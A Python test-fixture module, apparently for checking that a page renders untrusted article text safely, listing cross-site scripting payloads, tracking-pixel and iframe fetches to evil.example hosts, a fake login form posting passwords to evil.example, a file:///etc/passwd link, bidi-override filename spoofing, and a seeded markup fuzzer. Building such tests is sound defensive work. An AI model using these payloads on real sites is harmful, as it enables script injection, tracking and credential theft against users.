"""Strings that an article could hold to attack the page that shows it."""

from __future__ import annotations

import random

ATTACKS = (
    # Scripts and event handlers.
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/a.js></sCrIpT>",
    "<img src=x onerror=alert(2)>",
    "<svg/onload=alert(3)>",
    "<svg><script>alert(4)</script></svg>",
    "<details open ontoggle=alert(5)><summary>more</summary></details>",
    "<body onload=alert(6)>",
    "<input autofocus onfocus=alert(7)>",
    "<a href='javascript:alert(8)'>read on</a>",
    '"><script>alert(9)</script>',
    "' onmouseover='alert(10)' x='",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img onerror=x&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(11)>'></noscript>",
    "</div></details></blockquote><script>alert(12)</script>",
    "--><script>alert(13)</script><!--",
    "<![CDATA[<script>alert(14)</script>]]>",
    "&lt;script&gt;alert(15)&lt;/script&gt;",
    "&#60;script&#62;alert(16)&#60;/script&#62;",
    "<<script>alert(17);//<</script>",
    "<x-card onclick=alert(18) style=display:block>press me</x-card>",
    "<template><img src=x onerror=alert(19)></template>",
    # What would be fetched from elsewhere.
    "![pixel](http://tracker.example/p.png)",
    "<img srcset='http://tracker.example/p.png 1x'>",
    "<picture><source srcset=http://tracker.example/q.png><img></picture>",
    "<video src=http://tracker.example/v.mp4 autoplay></video>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.alert(20)</script>'></iframe>",
    "<object data=http://evil.example/o></object><embed src=http://evil.example/e>",
    "<link rel=stylesheet href=http://evil.example/s.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<style>@import url(http://evil.example/i.css); * { display: none }</style>",
    "<svg><image href=http://tracker.example/i.png></svg>",
    '<img src="/gradio_api/file=http://tracker.example/f.png">',
    "```mermaid\nflowchart TD\n A@{ img: 'http://tracker.example/m.png' }\n```",
    # What would lay itself over the page, or take its place.
    '<div style="position:fixed;inset:0;z-index:9999;background:red">Please log in</div>',
    "<form action=http://evil.example/><input name=password><button>Log in</button></form>",
    "<img name=getElementById><form id=t1-s1></form>",
    '<div id="t1-s1" class="card chosen"><mark>forged</mark></div>',
    "[1 en](#t1-s1)",
    "[the source](https://evil.example/)",
    "[x][1]\n\n[1]: javascript:alert(21)",
    "<https://evil.example/>",
    "https://evil.example/auto www.evil.example someone@evil.example",
    "[call](tel:123) [file](file:///etc/passwd) [office](ms-word:ofe|u|http://evil.example)",
    # Markdown and LaTeX.
    "# A huge heading\n\n> quoted\n\n- list\n\n---\n\n    code",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "**bold** _thin_ ~~gone~~ `code` ^up^ ==mark== $x^2$ $$\\frac{1}{2}$$ \\(y\\) \\[z\\]",
    "$$\\href{javascript:alert(22)}{press}$$",
    "```html\n<script>alert(23)</script>\n```",
    "1. first\n2) second\n+ third\n* fourth",
    "it cost $5 and then $6, see C:\\temp\\*_new_*",
    ":smile: [^1] <!-- hidden --> a",
    '__i18n__{"key": "<img src=x onerror=alert(24)>"}',
    "{{constructor.constructor('alert(25)')()}} ${alert(26)} #{x} <%= x %>",
    "<thinking>hidden</thinking>",
    # Characters that cannot be seen.
    "pay\u202egnp.exe\u202c now \u2066isolated\u2069",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 nul \x00 bell \x07 del \x7f",
    "zero\u200bwidth \ufeffmark \u2060joiner \u00adhyphen",
    "tagged\U000e0041\U000e0042 text",
    "line\u2028separator\u2029paragraph\x85next\x0bvertical\x0cform",
    "lone \ud800 surrogate \udfff",
    "می\u200cخواهم क्\u200dष 👩\u200d👩\u200d👧 \u200fעברית\u200e",
    "W" * 3000,
    "\u0301" * 40 + "Z\u0337\u0338" * 40,
)

_PIECES = (
    *"<>&\"'`*_[]()!#\\|~$^={}:/@%+-.",
    *(
        "```",
        "**",
        "__",
        "![",
        "](",
        "<!--",
        "-->",
        "</",
        "/>",
        "$$",
        "\\(",
        "\\[",
        "{{",
        "&#",
        "&lt;",
    ),
    *("<img src=x onerror=alert(1)>", "<a href=", "</div>", "</details>", "</span>", "<script>"),
    *(
        "javascript:",
        "data:text/html,",
        "http://evil.example/",
        "www.evil.example",
        "a@evil.example",
    ),
    *("- ", "+ ", "1. ", "> ", "# ", "---", "    ", "\t", "\n", "\n\n", "\r", " "),
    *("\u202e", "\u200b", "\x00", "\x1b[1m", "\ufeff", "Straße", "العربية", "日本語", "हिन्दी"),
    *("word", "mermaid", "__i18n__", '{"key":"a"}', "onclick=", "style=", "id=t1-s1"),
)


def fuzzed(count: int, *, seed: int) -> list[str]:
    """Strings of random pieces of markup; the same ones for the same seed."""
    chance = random.Random(seed)
    return [
        "".join(chance.choice(_PIECES) for _ in range(chance.randint(1, 14))) for _ in range(count)
    ]
